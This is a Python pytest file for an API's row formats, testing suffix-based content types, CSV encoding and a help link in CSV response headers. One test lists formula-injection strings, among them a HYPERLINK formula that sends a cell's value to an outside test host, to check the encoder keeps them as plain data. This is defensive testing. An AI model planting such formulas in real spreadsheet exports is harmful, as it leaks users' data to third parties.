"""The formats of rows."""

import csv
import io
import re

import pyarrow as pa
import pytest
from fastapi.testclient import TestClient

from api.formats.encoding import encoded
from api.formats.offered import CSV, FORMATS, Format
from tests.api.rows.conftest import CRAWL


@pytest.mark.parametrize("wanted", FORMATS, ids=lambda cell: cell.suffix)
def test_each_suffix_leads_to_rows_in_its_format(client: TestClient, wanted: Format) -> None:
    answer = client.get(f"/v1/visits.{wanted.suffix}?crawl={CRAWL}", headers={"Accept": "image/png"})
    assert answer.headers["content-type"].startswith(wanted.media_type)


def test_csv_keeps_a_text_that_a_spreadsheet_takes_for_a_formula() -> None:
    hostile = ['=HYPERLINK("https://a.test/?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "ordinary"]
    batch = pa.RecordBatch.from_pydict({"path": hostile})
    text = b"".join(encoded(CSV, [batch], batch.schema)).decode()
    assert list(csv.reader(io.StringIO(text))) == [["path"], *([cell] for cell in hostile)]


def test_csv_leads_to_what_a_reader_of_it_should_know(client: TestClient) -> None:
    for path in (f"/v1/visits.csv?crawl={CRAWL}", f"/v1/visits.csv?crawl={CRAWL}&limit=1"):
        help_link = re.search(r'<([^>]*)>; rel="help"', client.get(path).headers["link"])
        assert help_link is not None
        address, _, anchor = help_link[1].partition("#")
        assert f'id="{anchor}"' in client.get(address).text
    assert 'rel="help"' not in client.get(f"/v1/visits.ndjson?crawl={CRAWL}").headers["link"]
